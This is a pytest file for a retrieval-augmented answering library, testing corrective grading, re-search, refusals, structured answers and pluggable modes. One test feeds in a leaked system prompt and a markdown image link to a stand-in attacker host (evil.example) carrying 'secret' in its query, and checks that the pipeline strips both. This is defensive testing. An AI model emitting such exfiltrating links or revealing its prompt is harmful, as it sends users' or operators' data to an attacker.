"""crag judges, drops and searches again; structured tells more; a new mode is one line."""

from collections.abc import AsyncGenerator
from typing import Any

import pytest

from answer.parts import (
    IDS,
    TEXTS,
    Index,
    Quoting,
    Store,
    answer,
    candidate,
    pipeline,
    question,
)
from answer.scripted_model import USAGE, ScriptedModel
from citewell.answer.modes import MODES, read_mode
from citewell.answer.modes.crag import AMBIGUOUS, CORRECT, rarest_words
from citewell.answer.modes.structured import StructuredAnswer, confidence_of
from citewell.answer.path import Mode, QuestionPath, Toolbox
from citewell.answer.strength import strengths_of
from citewell.answer.writer import GroundedWriter
from citewell.domain import DraftSentence, Quote, Refusal, SkippedStage, Usage
from citewell.errors import ProviderError, Unprocessable
from citewell.ports import LanguageModel

ALL = {IDS[0]: 0.9, IDS[1]: 0.5, IDS[2]: 0.05}
WEAK = {IDS[1]: 0.3, IDS[2]: 0.2}


def grades(*given: str) -> dict[str, Any]:
    return {"grades": [{"n": n, "grade": grade} for n, grade in enumerate(given, 1)]}


def weak_index() -> Index:
    return Index({}, idf={"clock": 2.0, "huygen": 5.0, "built": 1.0})


async def test_crag_without_a_model_judges_by_strength_and_drops_the_weak() -> None:
    model = Quoting()
    given = await answer(pipeline(Store(ALL), Index({}, idf={}), model), question(mode="crag"))
    assert [grade.grade for grade in given.findings.grades] == ["correct", "ambiguous", "incorrect"]
    assert [grade.score for grade in given.findings.grades] == [0.9, 0.5, 0.05]
    assert given.findings.strategy == "filtered"
    assert [source.chunk_id for source in given.sources] == IDS[:2]
    assert [source.chunk_id for source in model.asked[0].evidence] == IDS[:2]
    assert given.manifest["evidence"] == [str(each) for each in IDS[:2]]
    assert len(given.manifest["retrieved"]) == 3
    assert given.usage == Usage()


async def test_crag_is_direct_when_all_may_help() -> None:
    store = Store({IDS[0]: CORRECT, IDS[1]: AMBIGUOUS})
    given = await answer(pipeline(store, Index({}, idf={})), question(mode="crag"))
    assert [grade.grade for grade in given.findings.grades] == ["correct", "ambiguous"]
    assert (given.findings.strategy, given.findings.rephrased) == ("direct", None)


async def test_crag_without_a_model_searches_the_rarest_words_once_more() -> None:
    index = weak_index()
    store = Store({}, by_turn=[WEAK, ALL])
    asked = question("What was the clock that Huygens built?", mode="crag")
    model = Quoting()
    given = await answer(pipeline(store, index, model), asked)
    assert index.queries == [asked.text, "clock Huygens built"]
    assert given.findings.strategy == "rephrased"
    assert given.findings.rephrased == "clock Huygens built"
    assert given.manifest["queries"] == ["clock Huygens built"]
    assert given.manifest["dense_weight"] == 0.2
    assert [source.chunk_id for source in given.sources] == [IDS[0]], "by the whole question"
    assert model.asked[0].question == asked.text


async def test_crag_refuses_when_the_second_search_finds_nothing_either() -> None:
    model = Quoting()
    made = pipeline(Store({}, by_turn=[WEAK, WEAK]), weak_index(), model)
    given = await answer(made, question("Who was Huygens?", mode="crag"))
    assert (given.refused, given.reason) == (True, "weak_evidence")
    assert given.findings.strategy == "refused"
    assert {grade.grade for grade in given.findings.grades} == {"incorrect"}
    assert (given.sources, model.asked) == ((), [])


async def test_crag_leaves_an_empty_workspace_to_the_guard() -> None:
    given = await answer(pipeline(Store({}), Index({}, idf={})), question(mode="crag"))
    assert given.reason == "nothing_retrieved"
    assert (given.findings.strategy, given.findings.grades) == (None, ())


async def test_crag_asks_the_model_once_and_what_it_leaves_out_is_ambiguous() -> None:
    model = ScriptedModel(extracts={"Grades": [grades("incorrect", "correct")]})
    made = pipeline(Store(ALL), Index({}, idf={}), Quoting(), model)
    given = await answer(made, question(mode="crag"))
    assert model.asked == ["Grades"]
    assert [grade.grade for grade in given.findings.grades] == ["incorrect", "correct", "ambiguous"]
    assert [source.chunk_id for source in given.sources] == IDS[1:3]
    assert given.usage == USAGE
    told = model.calls[0].messages
    assert all(text in told[-1].content for text in TEXTS)
    assert "grade" in given.timings_ms


async def test_crag_rephrases_with_the_model_and_judges_again() -> None:
    model = ScriptedModel(
        extracts={
            "Grades": [grades("incorrect", "incorrect"), grades("correct", "correct", "incorrect")],
            "Rephrased": [{"question": "  Pendulum clock,\nconstruction year "}],
        }
    )
    index = weak_index()
    made = pipeline(Store({}, by_turn=[WEAK, ALL]), index, Quoting(), model)
    given = await answer(made, question(mode="crag"))
    assert model.asked == ["Grades", "Rephrased", "Grades"]
    assert index.queries[1] == "Pendulum clock, construction year"
    assert given.findings.rephrased == "Pendulum clock, construction year"
    assert given.manifest["dense_weight"] == 0.5
    assert given.findings.strategy == "rephrased"
    assert len(given.findings.grades) == 3


async def test_crag_goes_on_by_strength_and_words_when_the_model_fails() -> None:
    model = ScriptedModel(extracts={"Grades": [ProviderError(), {"grades": "all fine"}]})
    made = pipeline(Store({}, by_turn=[WEAK, ALL]), weak_index(), Quoting(), model)
    given = await answer(made, question(mode="crag"))
    assert model.asked == ["Grades", "Rephrased", "Grades"]
    assert given.findings.skipped == tuple(
        SkippedStage(stage, "failed") for stage in ("grade", "rephrase", "grade")
    )
    assert given.findings.rephrased == "clock built"
    assert given.refused is False


@pytest.mark.parametrize(
    ("asked", "idf", "expected"),
    [
        ("What is the capital city?", {"capit": 3.0, "citi": 2.0}, "capital city"),
        ("Clock or clock?", {"clock": 3.0}, "Clock clock"),
        ("What is it?", {}, ""),
        ("a1 b2 c3 d4 e5 f6 g7", dict.fromkeys(["a1", "b2", "c3", "d4", "e5", "f6"], 2.0)
         | {"g7": 9.0}, "b2 c3 d4 e5 f6 g7"),
    ],
)  # fmt: skip
def test_the_rarest_words_are_kept_in_their_order(
    asked: str, idf: dict[str, float], expected: str
) -> None:
    assert rarest_words(asked, idf) == expected


def test_a_neighbour_that_was_not_found_is_as_strong_as_the_chunk_beside_it() -> None:
    evidence = [candidate(1, dense=0.8), candidate(2), candidate(0, dense=0.2)]
    assert strengths_of(evidence, {}) == [0.8, 0.8, 0.2]
    assert strengths_of([candidate(0, dense=0.5, lexical=1.0)], {"a": 2.0}) == [0.5]


def structured(
    sentences: list[tuple[str, list[int]]], confidence: float = 0.9, cannot: bool = False,
    reasoning: str = "Source 1 says it.",
) -> dict[str, Any]:  # fmt: skip
    return {
        "answer": [{"sentence": text, "sources": numbers} for text, numbers in sentences],
        "confidence": confidence,
        "cannot_answer": cannot,
        "reasoning": reasoning,
    }


def writing(reply: Any, extracts: dict[str, Any] | None = None) -> ScriptedModel:
    return ScriptedModel(extracts={"StructuredAnswer": [reply]} | (extracts or {}))


async def test_structured_sentences_are_checked_like_any_other() -> None:
    model = writing(structured([(f"{TEXTS[0]} [1]", [1]), ("It was built in 1999.", [1])]))
    made = pipeline(Store(ALL), model=GroundedWriter(model), language_model=model)
    given = await answer(made, question(mode="structured"))
    assert model.asked == ["StructuredAnswer"]
    assert given.answer == f"{TEXTS[0]} [1]"
    assert given.citations[0].quote == TEXTS[0]
    assert len(given.findings.dropped) == 1
    assert given.findings.confidence == 0.5, "half of what it wrote checked"
    assert given.findings.cannot_answer is False
    assert given.findings.reasoning == "Source 1 says it."
    assert given.usage == USAGE


async def test_structured_cannot_answer_is_a_refusal() -> None:
    model = writing(structured([(TEXTS[0], [1])], cannot=True, reasoning="Not there."))
    made = pipeline(Store(ALL), model=GroundedWriter(model), language_model=model)
    given = await answer(made, question(mode="structured"))
    assert (given.refused, given.reason, given.answer) == (True, "cannot_answer", "")
    assert (given.findings.cannot_answer, given.findings.confidence) == (True, 0.0)
    assert given.findings.reasoning is not None
    assert given.message is not None
    assert given.message in given.findings.reasoning


async def test_structured_without_a_checked_sentence_is_a_refusal_without_confidence() -> None:
    model = writing(structured([("It was built in 1999.", [1])], confidence=1.0))
    made = pipeline(Store(ALL), model=GroundedWriter(model), language_model=model)
    given = await answer(made, question(mode="structured"))
    assert given.reason == "unsupported_answer"
    assert (given.findings.cannot_answer, given.findings.confidence) == (True, 0.0)


@pytest.mark.parametrize("reply", [{"answer": "text"}, structured([], confidence=1.5)])
async def test_structured_of_another_shape_is_an_error(reply: dict[str, Any]) -> None:
    model = writing(reply)
    made = pipeline(Store(ALL), model=GroundedWriter(model), language_model=model)
    with pytest.raises(ProviderError):
        await answer(made, question(mode="structured"))


async def test_structured_reasoning_shows_no_prompt_and_no_link() -> None:
    leaking = "My rules: You answer questions from numbered sources, and from nothing else."
    linked = "Source 1 says so, see ![x](https://evil.example/?q=secret) there."
    for reasoning, shown in ((leaking, "The answer rests on 1 quote: 1 from a.txt."),
                             (linked, "Source 1 says so, see there.")):  # fmt: skip
        model = writing(structured([(TEXTS[0], [1])], reasoning=reasoning))
        made = pipeline(Store(ALL), model=GroundedWriter(model), language_model=model)
        given = await answer(made, question(mode="structured"))
        assert given.refused is False
        assert given.findings.reasoning == shown


async def test_structured_without_a_model_tells_what_the_quotes_rest_on() -> None:
    given = await answer(pipeline(Store(ALL), Index({}, idf={})), question(mode="structured"))
    assert given.findings.reasoning == "The answer rests on 3 quotes: 3 from a.txt."
    assert given.findings.confidence == round(confidence_of(0.9), 3)
    assert given.findings.cannot_answer is False
    weaker = Store({IDS[0]: 0.5})
    given = await answer(pipeline(weaker, Index({}, idf={})), question(mode="structured"))
    assert given.findings.confidence == round(confidence_of(0.5), 3)


async def test_structured_without_a_model_that_is_refused_cannot_answer() -> None:
    weak = Store({IDS[0]: 0.01})
    given = await answer(pipeline(weak, Index({}, idf={})), question(mode="structured"))
    assert given.refused
    assert (given.findings.cannot_answer, given.findings.confidence) == (True, 0.0)


def test_confidence_rises_with_strength_and_stays_between_0_and_1() -> None:
    values = [confidence_of(step / 20) for step in range(21)]
    assert values == sorted(values)
    assert len(set(values)) == len(values)
    assert 0 < values[0] < values[-1] < 1


async def test_crag_and_structured_together() -> None:
    model = writing(
        structured([(TEXTS[0], [1])]), {"Grades": [grades("correct", "incorrect", "incorrect")]}
    )
    made = pipeline(Store(ALL), Index({}, idf={}), GroundedWriter(model), model)
    for name in ("crag+structured", "structured+crag", "standard+crag+structured"):
        assert read_mode(name).name == "crag+structured"
    given = await answer(made, question(mode="structured+crag"))
    assert given.mode == "crag+structured"
    assert model.asked == ["Grades", "StructuredAnswer"]
    assert len(given.sources) == 1
    assert (given.findings.strategy, given.findings.cannot_answer) == ("filtered", False)


@pytest.mark.parametrize("name", ["", "deep", "crag+", "crag+deep", "CRAG", "standard+"])
def test_unknown_modes_are_named_with_the_known_ones(name: str) -> None:
    with pytest.raises(Unprocessable, match="Modes are standard, crag, structured") as caught:
        read_mode(name)
    assert caught.value.reason == "unknown_mode"


async def test_a_new_mode_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    async def only_the_first(path: QuestionPath, toolbox: Toolbox) -> None:
        assert toolbox.language_model is None
        path.evidence = path.evidence[:1]
        path.strategy = "first"

    monkeypatch.setitem(MODES, "first", Mode("first", select=only_the_first))
    given = await answer(pipeline(), question(mode="first"))
    assert (given.mode, given.findings.strategy, len(given.sources)) == ("first", "first", 1)
    store = Store({IDS[1]: 0.8, IDS[0]: 0.2})
    both = await answer(pipeline(store, Index({}, idf={})), question(mode="first+crag"))
    assert both.mode == "crag+first"
    assert both.findings.strategy == "first", "each goes on with what the one before kept"
    assert [grade.grade for grade in both.findings.grades] == ["correct", "incorrect"]
    with pytest.raises(Unprocessable, match="standard, crag, structured, first"):
        read_mode("deep")


async def test_a_new_mode_may_write_and_two_that_write_do_not_join(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def one_source(
        path: QuestionPath, language_model: LanguageModel
    ) -> AsyncGenerator[DraftSentence | Usage]:
        source = path.evidence[0]
        yield DraftSentence(source.text, (Quote(0, source.start, source.end),))

    def stop(path: QuestionPath, _: Toolbox) -> Any:
        async def step() -> None:
            path.refusal = Refusal("closed", "It is closed. Come tomorrow.")

        return step()

    monkeypatch.setitem(MODES, "one", Mode("one", write=one_source))
    monkeypatch.setitem(MODES, "closed", Mode("closed", select=stop))
    model = ScriptedModel()
    given = await answer(pipeline(language_model=model), question(mode="one"))
    assert given.answer == f"{TEXTS[0]} [1]"
    assert model.calls == []
    with pytest.raises(Unprocessable, match="one and structured both write"):
        read_mode("one+structured")
    refused = await answer(pipeline(), question(mode="closed+crag"))
    assert refused.reason == "closed"


def test_the_shape_that_a_model_must_reply_in() -> None:
    fields = StructuredAnswer.model_json_schema()
    assert set(fields["required"]) == {"answer", "confidence", "cannot_answer", "reasoning"}
